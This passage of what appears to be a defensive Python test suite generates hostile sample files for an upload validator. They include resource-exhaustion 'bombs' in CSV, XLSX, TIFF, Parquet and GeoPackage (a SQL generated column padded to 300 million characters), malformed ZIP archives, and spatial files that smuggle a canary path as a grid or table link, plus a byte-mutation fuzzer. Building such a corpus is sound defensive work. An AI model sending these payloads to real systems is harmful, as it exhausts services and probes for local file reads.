    made.add("bomb", "value.csv", "ten\n" + "a" * 300_000 + "\n", "value_too_long")
    made.add("bomb", "rows.csv", "a\n" * 2_000_002, "too_many_rows")
    made.add("bomb", "quote.csv", 'ten,so\n"' + "a,\n" * 100_000, "format_not_sound", "value_too_long")
    made.add("broken", "null.csv", "ten,so\na\0b,1\n", "format_not_sound", "format_unknown")
    made.add("broken", "blank.csv", " \n\n  \n", "file_empty")
    made.add("broken", "unknown.exe", "MZ", "format_unknown")


def disagreeing(made: Corpus) -> None:
    """Files of which two readers see different things, or whose own counts are wrong."""
    good = parts(made.good[".zip"])
    plain = zipped(good)
    end = plain.rindex(b"PK\x05\x06")
    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, end, 1)
    first, listed = plain.index(b"PK\x03\x04"), plain.index(b"PK\x01\x02")
    for name, content in {
        "gap": plain[:end] + bytes(8) + plain[end:],
        "zip64": plain[:end] + locator + plain[end:],
        "tail": plain + b"x",
        "patch": flagged(good, 0x20),
        "local_method": with_byte(plain, first + 8, 0),
        "local_password": with_byte(plain, first + 6, 1),
        "deflate64": with_byte(plain, listed + 10, 9),
    }.items():
        made.add("reach", f"{name}.zip", content, "format_not_sound")
    computed = "ALTER TABLE xa ADD COLUMN g TEXT GENERATED ALWAYS AS (printf('%300000000s', 'x')) VIRTUAL"
    made.add("bomb", "computed.gpkg", changed(made.good[".gpkg"], made.folder, computed), "geopackage_forbidden")
    for count in (2, 9, -1):
        less = f"UPDATE gpkg_ogr_contents SET feature_count = {count}"  # noqa: S608  a number of ours
        made.add("broken", "counted.gpkg", changed(made.good[".gpkg"], made.folder, less), "format_not_sound")
    grid = (
        'GEOGCS["x",DATUM["d",SPHEROID["s",6378137,298],EXTENSION["PROJ4_GRIDS","' + str(made.planted.canary) + '"]],'
        'PRIMEM["G",0],UNIT["degree",0.0174532925199433]]'
    ).encode()
    made.add("reach", "grid.zip", zipped({**good, "xa.prj": grid}), "link_forbidden")
    tab = made.good[".tab"].read_text(encoding="latin-1")
    dat = {s: made.good[".tab"].with_suffix(s).read_bytes() for s in (".dat", ".map", ".id")}
    for lead, between in (("(", " "), ("\t;,", "\t"), ("", ";"), ("\r", " ")):
        text = tab.replace("Definition Table", f'Definition Table\n{lead}File{between}"{made.planted.canary}"')
        made.add("reach", "lead.tab", text, "link_forbidden", beside=dat)


def with_byte(content: bytes, at: int, value: int) -> bytes:
    """The content with another byte at that place."""
    return content[:at] + bytes([value]) + content[at + 1 :]


def slow(made: Corpus) -> None:
    """Small files on which a careless pattern or loop takes minutes."""
    beside = {".mid": b"a\n"}
    made.add("bomb", "blank.mif", 'Version 300\nDelimiter ","\n' + "\n" * 300_000, "format_not_sound", beside=beside)
    made.add("bomb", "blank.tab", "!table\n" + "\n" * 300_000, "sidecar_wrong")
    made.add("bomb", "value.csv", "ten\n" + ("a" * 250_000 + "\n") * 20, "format_not_sound", "value_too_long")
    book = parts(made.good[".xlsx"])
    sheet, links = book["xl/worksheets/sheet1.xml"], "xl/_rels/workbook.xml.rels"

    def with_cell(cell: bytes, after: bytes = b"") -> bytes:
        return sheet.replace(b"</sheetData>", b"<row>" + cell + b"</row></sheetData>" + after)

    far = b'<c r = "XFD1048576"><v>1</v></c>'
    renamed = {n: c for n, c in book.items() if "sheet1" not in n} | {
        "xl/a.dat": with_cell(far), links: book[links].replace(b"worksheets/sheet1.xml", b"a.dat"),
    }  # fmt: skip
    made.add("bomb", "renamed.xlsx", zipped(renamed), "too_many_columns")
    spaced = {**book, "xl/worksheets/sheet1.xml": with_cell(far)}
    made.add("bomb", "spaced.xlsx", zipped(spaced), "too_many_columns")
    ranges = b"<mergeCells>" + b'<mergeCell ref="A2:A90000"/>' * 3000 + b"</mergeCells>"
    merged = with_cell(b'<c r="A90000"><v>1</v></c>', ranges)
    made.add("bomb", "merged.xlsx", zipped({**book, "xl/worksheets/sheet1.xml": merged}), "too_many_rows")
    tags = struct.pack("<HHII", 273, 1, 1_000_000, 8) * 4000
    made.add("bomb", "tags.tif", b"II*\0" + struct.pack("<IH", 8, 4000) + tags + bytes(1_000_004), "format_not_sound")
    text = pa.DictionaryArray.from_arrays(pa.array(np.zeros(1_900_000, dtype="int32")), ["x" * 60_000])
    out = io.BytesIO()
    pq.write_table(pa.table({"ten": text}), out)
    made.add("bomb", "repeated.parquet", out.getvalue(), "worker_memory", "unpacks_too_large", "format_not_sound")


def workbook(said: str) -> bytes:
    """An XLSX with that text as heading and value."""
    out = io.BytesIO()
    with xlsxwriter.Workbook(out, {"in_memory": True}) as book:
        sheet = book.add_worksheet()
        for row in range(2):
            sheet.write_string(row, 0, said)
    return out.getvalue()


def mutants(folder: Path, count: int, seed: int = 4) -> Iterator[Path]:
    """That many files, each a small sound one with a few bytes changed, doubled or left out; one at a time."""
    good = seeds(folder / "good")
    chance = random.Random(seed)  # noqa: S311  reproducible, no secret
    changes: tuple[Callable[[bytearray, int], None], ...] = (flip, boundary, cut, double, swap)
    for number in range(count):
        source = good[chance.choice(sorted(good))]
        place = folder / str(number)
        place.mkdir()
        group = [p for p in sorted(source.parent.glob(f"{source.stem}.*"))
                 if p == source or (source.suffix in (".shp", ".tab", ".mif") and p.suffix not in good)]  # fmt: skip
        victim = chance.choice(group) if chance.random() < 0.3 else source
        for part in group:
            content = bytearray(part.read_bytes())
            if part == victim:
                for _ in range(chance.choice((1, 1, 2, 5, 20))):
                    chance.choice(changes)(content, chance.randrange(1 << 30))
            (place / part.name).write_bytes(content)
        yield place / source.name


def flip(content: bytearray, where: int) -> None:
    """One bit."""
    if content:
        content[where % len(content)] ^= 1 << (where >> 8) % 8


def boundary(content: bytearray, where: int) -> None:
    """Four bytes become a number at a border."""
    at = where % max(len(content) - 4, 1)
    content[at : at + 4] = (b"\xff\xff\xff\xff", b"\x7f\xff\xff\xff", b"\xff\xff\xff\x7f", bytes(4))[(where >> 9) % 4]


def cut(content: bytearray, where: int) -> None:
    """The end is lost."""
    del content[where % (len(content) + 1) :]


def double(content: bytearray, where: int) -> None:
    """A piece stands twice."""
    at = where % (len(content) + 1)
    content[at:at] = content[at : at + 1 + (where >> 12) % 64]


def swap(content: bytearray, where: int) -> None:
    """A piece is lost."""
    at = where % (len(content) + 1)
    del content[at : at + 1 + (where >> 12) % 16]
